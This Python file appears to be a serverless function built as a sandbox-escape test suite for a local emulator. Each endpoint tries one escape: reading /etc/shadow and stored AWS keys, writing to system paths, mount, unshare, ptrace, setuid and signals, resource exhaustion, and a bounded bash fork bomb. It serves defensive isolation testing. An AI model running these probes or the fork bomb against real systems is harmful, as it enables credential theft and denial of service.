"""A function written to escape its sandbox (issue #5's attack suite).

GET /<prefix>/{name}?query runs the attack `name` and answers 200 with JSON saying what
happened; the test decides whether that is a denial. Every attempt is reported as
{"ok": true, "value": ...} or {"ok": false, "error": "PermissionError: ...", "errno":
"EACCES"}, so a failure says exactly which call was refused and how.

Attacks that are dangerous if they succeed are made harmless: signals are SIGCONT or 0,
writes create new empty files and remove them again, cgroup directories are removed.
"""

import ctypes
import errno as errno_names
import json
import os
import signal
import socket
import subprocess
import time

libc = ctypes.CDLL(None, use_errno=True)


def attempt(action, *args):
    try:
        return {"ok": True, "value": action(*args)}
    except Exception as error:  # noqa: BLE001 - the report is the point
        code = getattr(error, "errno", None)
        return {
            "ok": False,
            "error": f"{type(error).__name__}: {error}",
            "errno": errno_names.errorcode.get(code) if code else None,
        }


def syscall(name, result):
    """A libc call's result as an attempt: -1 is a failure with errno."""
    if result == -1:
        code = ctypes.get_errno()
        return {
            "ok": False,
            "error": f"{name}: {os.strerror(code)}",
            "errno": errno_names.errorcode.get(code),
        }
    return {"ok": True, "value": result}


def read_text(path, limit=300):
    with open(path, "rb") as file:
        data = file.read()
    return {"bytes": len(data), "start": data[:limit].decode("utf-8", "replace")}


def status_fields():
    fields = {}
    with open("/proc/self/status") as status:
        for line in status:
            key, _, value = line.partition(":")
            if key in ("Uid", "Gid", "CapEff", "CapPrm", "CapBnd", "NoNewPrivs", "Seccomp"):
                fields[key] = value.split()[0] if key in ("Uid", "Gid") else value.strip()
    return fields


def identity(query):
    return {
        "uid": os.getuid(),
        "gid": os.getgid(),
        "pid": os.getpid(),
        "cwd": os.getcwd(),
        "hostname": socket.gethostname(),
        "taskRoot": os.environ.get("LAMBDA_TASK_ROOT"),
        "runtimeApi": os.environ.get("AWS_LAMBDA_RUNTIME_API"),
        "awsEndpoint": os.environ.get("AWS_ENDPOINT_URL"),
        "status": status_fields(),
        "taskFiles": sorted(os.listdir("/var/task")) if os.path.isdir("/var/task") else None,
        "rootFiles": sorted(os.listdir("/")),
    }


def shadow(query):
    return {"read": attempt(read_text, "/etc/shadow"), "gshadow": attempt(read_text, "/etc/gshadow")}


def data_dir(query):
    data = os.environ["DATA_DIR"]
    return {
        "list": attempt(os.listdir, data),
        "keys": attempt(read_text, os.path.join(data, "aws-keys.json")),
        "database": attempt(read_text, os.path.join(data, "dynamodb.sqlite")),
    }


def victim_code(query):
    path = os.environ["VICTIM_CODE"]
    return {
        "read": attempt(read_text, path),
        "list": attempt(os.listdir, os.path.dirname(path)),
    }


def code_folder(query):
    """For a function whose CodeUri is the app folder, where the data dir lives too."""
    return {
        "list": attempt(os.listdir, "/var/task"),
        "dataDir": attempt(os.listdir, "/var/task/.serverful"),
        "keys": attempt(read_text, "/var/task/.serverful/aws-keys.json"),
        "database": attempt(read_text, "/var/task/.serverful/dynamodb.sqlite"),
    }


def create_file(directory):
    path = os.path.join(directory, f"escaped-{os.getpid()}-{time.monotonic_ns()}")
    with open(path, "x") as file:
        file.write("written from inside a function\n")
    os.remove(path)
    return path


def make_cgroup(controller_dir):
    path = os.path.join(controller_dir, f"escaped-{os.getpid()}")
    os.mkdir(path)
    os.rmdir(path)
    return path


def write(query):
    targets = ["/", "/var/task", "/usr", "/usr/bin", "/etc", "/var", "/root", "/home", "/opt", "/dev", "/proc"]
    report = {directory: attempt(create_file, directory) for directory in targets}
    report["/tmp"] = attempt(create_file, "/tmp")
    report["append to own code"] = attempt(lambda: open(__file__, "a").close())
    report["drop_caches"] = attempt(lambda: open("/proc/sys/vm/drop_caches", "w").write("1"))
    # The same name back: a test that works must not rename anything.
    report["hostname"] = attempt(lambda: open("/proc/sys/kernel/hostname", "w").write(socket.gethostname()))
    for controller in ("memory", "pids", "unified", ""):
        directory = os.path.join("/sys/fs/cgroup", controller)
        report[f"cgroup {directory}"] = attempt(make_cgroup, directory)
    return report


def list_processes():
    processes = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as cmdline:
                    command = cmdline.read().replace(b"\0", b" ").decode("utf-8", "replace").strip()
            except OSError:
                command = "?"
            processes.append({"pid": int(entry), "cmdline": command})
    return sorted(processes, key=lambda process: process["pid"])


def processes(query):
    """Lists the processes it can see; signals the pids in ?pids= (SIGCONT and 0, both
    harmless) unless they are its own, i.e. visible in its /proc."""
    visible = list_processes()
    own = {process["pid"] for process in visible}
    signals = {}
    for pid in filter(None, query.get("pids", "").split(",")):
        pid = int(pid)
        if pid in own:
            signals[str(pid)] = {"ok": False, "error": "that pid is one of the instance's own", "errno": None}
            continue
        signals[str(pid)] = {
            "probe": attempt(os.kill, pid, 0),
            "sigcont": attempt(os.kill, pid, signal.SIGCONT),
        }
    ps = attempt(lambda: subprocess.run(["ps", "-e", "-o", "pid=,comm="], capture_output=True, text=True, timeout=5).stdout)
    return {"visible": visible, "signals": signals, "ps": ps}


CLONE_NEWNS = 0x00020000
CLONE_NEWUSER = 0x10000000
CLONE_NEWNET = 0x40000000
CLONE_NEWPID = 0x20000000
MS_BIND = 0x1000
MS_REMOUNT = 0x20
MNT_DETACH = 2
PTRACE_TRACEME = 0
PTRACE_ATTACH = 16
PTRACE_DETACH = 17
PTRACE_SEIZE = 0x4206


def mount(query):
    os.makedirs("/tmp/mountpoint", exist_ok=True)
    result = {
        "tmpfs": syscall("mount", libc.mount(b"none", b"/tmp/mountpoint", b"tmpfs", 0, None)),
        "remount /var/task rw": syscall(
            "mount", libc.mount(None, b"/var/task", None, MS_REMOUNT | MS_BIND, None)
        ),
        "umount /var/task": syscall("umount2", libc.umount2(b"/var/task", MNT_DETACH)),
    }
    if result["tmpfs"]["ok"]:
        libc.umount2(b"/tmp/mountpoint", MNT_DETACH)
    result["mount command"] = attempt(run_command, ["mount", "-t", "tmpfs", "none", "/tmp/mountpoint"])
    if result["mount command"]["ok"]:
        libc.umount2(b"/tmp/mountpoint", MNT_DETACH)
    return result


def unshare(query):
    # The commands first: if the calls below work, this process is in new namespaces.
    report = {
        "unshare -r true": attempt(run_command, ["unshare", "-r", "true"]),
        "unshare -rn true": attempt(run_command, ["unshare", "-rn", "true"]),
    }
    for name, flag in (("user", CLONE_NEWUSER), ("mount", CLONE_NEWNS), ("net", CLONE_NEWNET), ("pid", CLONE_NEWPID)):
        report[name] = syscall("unshare", libc.unshare(flag))
    return report


def run_command(argv):
    """Runs argv; a non-zero exit is a failure carrying its output."""
    finished = subprocess.run(argv, capture_output=True, text=True, timeout=5)
    if finished.returncode != 0:
        raise RuntimeError(f"exit {finished.returncode}: {(finished.stdout + finished.stderr).strip()}")
    return finished.stdout


def ptrace(query):
    child = subprocess.Popen(["sleep", "30"])
    try:
        attach_child = syscall("ptrace", libc.ptrace(PTRACE_ATTACH, child.pid, None, None))
        # SEIZE, unlike ATTACH, does not stop the process: harmless if it works.
        attach_init = syscall("ptrace", libc.ptrace(PTRACE_SEIZE, 1, None, None))
        if attach_init["ok"]:
            libc.ptrace(PTRACE_DETACH, 1, None, None)
    finally:
        child.kill()
        child.wait()
    # PTRACE_TRACEME in a fresh child, so that a success cannot leave this process traced.
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:
        result = libc.ptrace(PTRACE_TRACEME, 0, None, None)
        code = ctypes.get_errno()
        os.write(write_end, json.dumps([result, code]).encode())
        os._exit(0)
    os.close(write_end)
    result, code = json.loads(os.read(read_end, 100))
    os.waitpid(pid, 0)
    traceme = {"ok": result == 0}
    if result != 0:
        traceme.update(error=os.strerror(code), errno=errno_names.errorcode.get(code))
    return {"attach child": attach_child, "seize pid 1": attach_init, "traceme": traceme}


def setuid(query):
    report = {"status": status_fields()}
    report["setuid 0"] = attempt(os.setuid, 0)
    report["setgid 0"] = attempt(os.setgid, 0)
    # Last: if it works, this process no longer sees /proc.
    report["chroot"] = attempt(os.chroot, "/tmp")
    return report


def listeners(query):
    """Listening TCP sockets in this network namespace, from /proc/net/tcp{,6}."""
    found = []
    for table, family in (("/proc/net/tcp", 4), ("/proc/net/tcp6", 6)):
        try:
            with open(table) as lines:
                next(lines)
                for line in lines:
                    fields = line.split()
                    if fields[3] != "0A":  # TCP_LISTEN
                        continue
                    address, port = fields[1].split(":")
                    found.append(f"{decode_address(address, family)}:{int(port, 16)}")
        except OSError:
            pass
    return {
        "listening": sorted(found),
        "runtimeApi": os.environ.get("AWS_LAMBDA_RUNTIME_API"),
        "awsEndpoint": os.environ.get("AWS_ENDPOINT_URL"),
    }


def decode_address(hex_address, family):
    raw = bytes.fromhex(hex_address)
    if family == 4:
        return socket.inet_ntop(socket.AF_INET, raw[::-1])
    # Four little-endian 32-bit words.
    words = b"".join(raw[i : i + 4][::-1] for i in range(0, 16, 4))
    return "[" + socket.inet_ntop(socket.AF_INET6, words) + "]"


def default_gateway():
    with open("/proc/net/route") as routes:
        next(routes)
        for line in routes:
            fields = line.split()
            if fields[1] == "00000000":
                return socket.inet_ntop(socket.AF_INET, bytes.fromhex(fields[2])[::-1])
    return None


def connect_once(target):
    host, _, port = target.rpartition(":")
    with socket.create_connection((host.strip("[]"), int(port)), timeout=1) as connection:
        connection.settimeout(2)
        try:
            received = connection.recv(200).decode("utf-8", "replace")
        except socket.timeout:
            received = ""
        return {"connected": True, "received": received}


def connect(query):
    """Connects to every host:port in ?to= (and to the default gateway at each ?port=)."""
    targets = list(filter(None, query.get("to", "").split(",")))
    gateway = default_gateway()
    if gateway:
        targets += [f"{gateway}:{port}" for port in filter(None, query.get("port", "").split(","))]
    return {
        "gateway": gateway,
        "attempts": {target: attempt(connect_once, target) for target in targets},
    }


def aws(query):
    import boto3

    client = boto3.client("dynamodb")
    return attempt(lambda: client.list_tables()["TableNames"])


def allocate(query):
    """Touches memory 16 MB at a time, up to ?mb= (2048 by default)."""
    limit = int(query.get("mb", "2048"))
    chunks = []
    while len(chunks) * 16 < limit:
        chunks.append(b"\x01" * (16 << 20))
    return {"allocatedMb": len(chunks) * 16}


def fill_tmp(query):
    statvfs = os.statvfs("/tmp")
    size_mb = statvfs.f_blocks * statvfs.f_frsize >> 20
    if size_mb > 10240:
        # Larger than EphemeralStorage allows: not a sandbox's tmpfs, so do not fill it.
        return {"skipped": f"/tmp is {size_mb} MB, not a sandbox's tmpfs", "tmpSizeMb": size_mb}
    chunk = b"\x02" * (1 << 20)
    path = "/tmp/filler"
    written = 0
    outcome = {"ok": True}
    try:
        with open(path, "wb") as file:
            while written < 20 << 30:
                file.write(chunk)
                file.flush()
                written += len(chunk)
    except OSError as error:
        outcome = {"ok": False, "error": f"{type(error).__name__}: {error}", "errno": errno_names.errorcode.get(error.errno)}
    finally:
        try:
            os.remove(path)
        except OSError:
            pass
    return {"writtenMb": written >> 20, "tmpSizeMb": size_mb, "outcome": outcome}


def loop(query):
    while True:
        pass


def fork_bomb(query):
    """First a bounded count of how many processes this instance may start (sleeps that
    are reaped afterwards); only when that stops below ?limit= (1024) the real thing,
    bash's `:(){ :|:& };:` for two seconds, then stopped, counted and killed by its
    process group."""
    limit = int(query.get("limit", "1024"))
    children = []
    refused = None
    try:
        while len(children) < 3 * limit:
            children.append(subprocess.Popen(["sleep", "60"]))
    except OSError as error:
        refused = {"error": f"{type(error).__name__}: {error}", "errno": errno_names.errorcode.get(error.errno)}
    started = len(children)
    for child in children:
        child.kill()
    for child in children:
        child.wait()
    report = {"started": started, "refused": refused}
    if refused is None or started >= limit:
        report["bomb"] = "skipped: no process limit"
        return report

    bomb = subprocess.Popen(
        ["bash", "-c", ":(){ :|:& };:"],
        start_new_session=True,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    time.sleep(2)
    # Stopped, the bomb neither forks nor exits while /proc is counted. (Counted running,
    # processes that exit and are replaced during the listing are counted twice.)
    try:
        os.killpg(bomb.pid, signal.SIGSTOP)
    except ProcessLookupError:
        pass
    time.sleep(0.2)
    peak = sum(1 for entry in os.listdir("/proc") if entry.isdigit())
    for _ in range(200):
        try:
            os.killpg(bomb.pid, signal.SIGKILL)
        except ProcessLookupError:
            break
        reap()
        time.sleep(0.02)
    bomb.wait()
    report["bomb"] = {"processesAfter2s": peak, "left": sum(1 for e in os.listdir("/proc") if e.isdigit())}
    return report


def reap():
    while True:
        try:
            pid, _ = os.waitpid(-1, os.WNOHANG)
        except ChildProcessError:
            return
        if pid == 0:
            return


ATTACKS = {
    "identity": identity,
    "shadow": shadow,
    "data-dir": data_dir,
    "victim-code": victim_code,
    "code-folder": code_folder,
    "write": write,
    "processes": processes,
    "mount": mount,
    "unshare": unshare,
    "ptrace": ptrace,
    "setuid": setuid,
    "listeners": listeners,
    "connect": connect,
    "aws": aws,
    "allocate": allocate,
    "fill-tmp": fill_tmp,
    "loop": loop,
    "fork-bomb": fork_bomb,
}


def handler(event, context):
    name = (event.get("pathParameters") or {}).get("name", "")
    query = event.get("queryStringParameters") or {}
    if name not in ATTACKS:
        return {"statusCode": 404, "body": json.dumps({"message": f"no attack {name!r}", "attacks": list(ATTACKS)})}
    return {"statusCode": 200, "body": json.dumps(ATTACKS[name](query))}
